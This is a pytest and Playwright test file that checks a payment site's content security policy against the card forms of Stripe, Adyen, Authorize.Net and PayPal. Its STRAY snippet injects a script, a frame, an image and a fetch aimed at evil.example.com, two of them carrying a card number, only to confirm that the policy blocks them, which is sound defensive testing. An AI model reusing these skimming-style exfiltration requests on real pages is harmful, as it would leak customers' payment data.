"""The forms of Stripe, Adyen, Authorize.Net and PayPal under the policy of our pages.

Odoo's own modules show them; the scripts that they load are played by those of
provider_scripts.py, as no test can ask the providers. docs/security.md says what that
proves, and whence each host is known.
"""

from urllib.parse import urlsplit

import pytest
from ledger import fill
from payer import CHOICE, FONT
from playwright.sync_api import expect
from provider_scripts import PROVIDERS

from dev import databases

EMAIL = "billing@blueharbor.example.com"
PUBLISH = """
Provider = env["payment.provider"]
Provider.search([("state", "!=", "disabled")]).state = "disabled"
method = env.ref(f"payment.payment_method_{METHOD}")
Provider.search(
    [("code", "=", CODE), ("company_id", "=", env.ref("base.main_company").id)]
).write({
    **ACCOUNT,
    "available_currency_ids": [(6, 0, env.ref("base.USD").ids)],
    "payment_method_ids": [(6, 0, method.ids)],
    "state": "test",
    "is_published": True,
})
method.active = True
env.cr.commit()
"""
#: Notes what the policy blocks, in our page and in frames that are written by it.
WATCH = """
document.addEventListener("securitypolicyviolation", (ev) => {
    (window.blocked ??= []).push([ev.effectiveDirective, ev.blockedURI]);
});
"""
#: Asks for what no provider needs, and for what only another one does.
STRAY = """async (script) => {
    window.blocked = [];
    const add = (name, values) => {
        document.body.append(Object.assign(document.createElement(name), values));
    };
    add("script", {src: script});
    add("script", {src: "https://evil.example.com/script.js"});
    add("iframe", {src: "http://evil.example.com/"});
    add("img", {src: "https://evil.example.com/?card=4242"});
    await fetch("https://evil.example.com/?card=4242").catch(() => {});
}"""
BLOCKED = """(count) => window.blocked.length >= count
    && window.blocked.map(([directive]) => directive).sort()"""
STRAY_BLOCKED = [
    "connect-src",
    "frame-src",
    "img-src",
    "script-src-elem",
    "script-src-elem",
]
#: What Odoo's modules write into each payment form.
EVERYWHERE = (
    "https://js.stripe.com/v3/",
    "https://checkoutshopper-live.adyen.com/checkoutshopper/sdk/5.39.0/",
)
#: What Adyen answers to Odoo's server, which asks it for the methods.
METHODS = {"paymentMethods": [{"type": "scheme", "name": "Cards"}]}


@pytest.fixture(scope="module")
def proxied(stack, paynow_db, start_server):
    """A server of a database with the modules of the providers."""
    modules = [f"payment_{code}" for code in PROVIDERS]
    databases.install(stack, paynow_db, modules)
    return start_server(arguments=("--proxy-mode",))


@pytest.fixture(params=PROVIDERS)
def code(request):
    """The code of a provider."""
    return request.param


@pytest.fixture
def shown(code, visit, shell):
    """A client to whom a provider's form is shown, the provider, what was asked."""
    provider, payer = PROVIDERS[code], visit()
    shell(fill(PUBLISH, CODE=code, METHOD=provider.method, ACCOUNT=provider.account))
    asked = []

    def answer(route):
        asked.append(route.request.url)
        provider.answer(route)

    payer.page.route(lambda url: "//localhost" not in url, answer)
    payer.page.route(
        "**/payment/adyen/payment_methods",
        lambda route: route.fulfill(
            json={"jsonrpc": "2.0", "result": {**METHODS, "country_code": "US"}}
        ),
    )
    payer.page.add_init_script(WATCH)
    payer.look_up(EMAIL, "Inv200", f"{31 + [*PROVIDERS].index(code)}")
    payer.expect_heading(CHOICE)
    asked.clear()  # What the website's page asked.
    payer.page.reload()
    payer.page.get_by_role("radio", name=provider.method_name, exact=True).check()
    box = payer.page.locator(provider.form)
    expect(box).to_have_attribute("data-stand-in", "done")
    return payer, provider, asked


def read_blocked(page, provider):
    """Return what the policy blocked on a page, but for what it should.

    That is the theme's font, and what the modules of Stripe and Adyen write into each
    payment form, also where another provider is offered.
    """
    hosts = provider.get_hosts()
    others = [url for url in EVERYWHERE if urlsplit(url).hostname not in hosts]
    due = (FONT, *others)
    blocked = page.evaluate("window.blocked ?? []")
    return [(what, url) for what, url in blocked if not url.startswith(due)]


def test_form_gets_all_that_it_needs_and_nothing_else_does(shown):
    """The provider's frames, scripts, styles and calls; no stray one beside them."""
    payer, provider, asked = shown
    assert read_blocked(payer.page, provider) == []
    needs = sum(provider.get_needs().values(), [])
    assert {provider.address, *needs} <= {url.partition("?")[0] for url in asked}
    frames = payer.page.locator(f"{provider.form} iframe[src]")
    expect(frames).to_have_count(len(provider.frames))
    drawn = payer.page.locator(f"{provider.form} iframe[data-drawn]")
    expect(drawn).to_have_count(provider.drawn)
    for field in payer.page.locator(f"{provider.form} input").all():
        field.fill("11")  # Authorize.Net's are Odoo's own; others' are in frames.
    payer.proceed()
    assert read_blocked(payer.page, provider) == []
    # Adyen's older script in Odoo's page has a checksum, which a stand-in can't have.
    payer.complaints[:] = [
        complaint
        for complaint in payer.complaints
        if not any(text in complaint for text in ("valid digest", *EVERYWHERE))
    ]
    assert not payer.complaints

    asked.clear()
    others = [other for other in PROVIDERS.values() if other != provider]
    payer.page.evaluate(STRAY, others[0].address)
    count = len(STRAY_BLOCKED)
    blocked = payer.page.wait_for_function(BLOCKED, arg=count).json_value()
    assert blocked == STRAY_BLOCKED
    assert asked == []
    payer.complaints.clear()  # The browser tells of what it blocked.


@pytest.mark.parametrize("code", ["paypal"])
def test_window_of_paypal_knows_who_opened_it(shown):
    """Our pages are kept apart from others, but for the windows that they open."""
    payer, provider, _asked = shown
    payer.page.context.route(
        "https://www.sandbox.paypal.com/**", lambda route: provider.answer(route)
    )
    with payer.page.expect_popup() as popup:
        payer.page.evaluate("() => void window.open('https://www.sandbox.paypal.com/')")
    assert popup.value.evaluate("() => Boolean(window.opener)")
    payer.complaints.clear()  # See above.
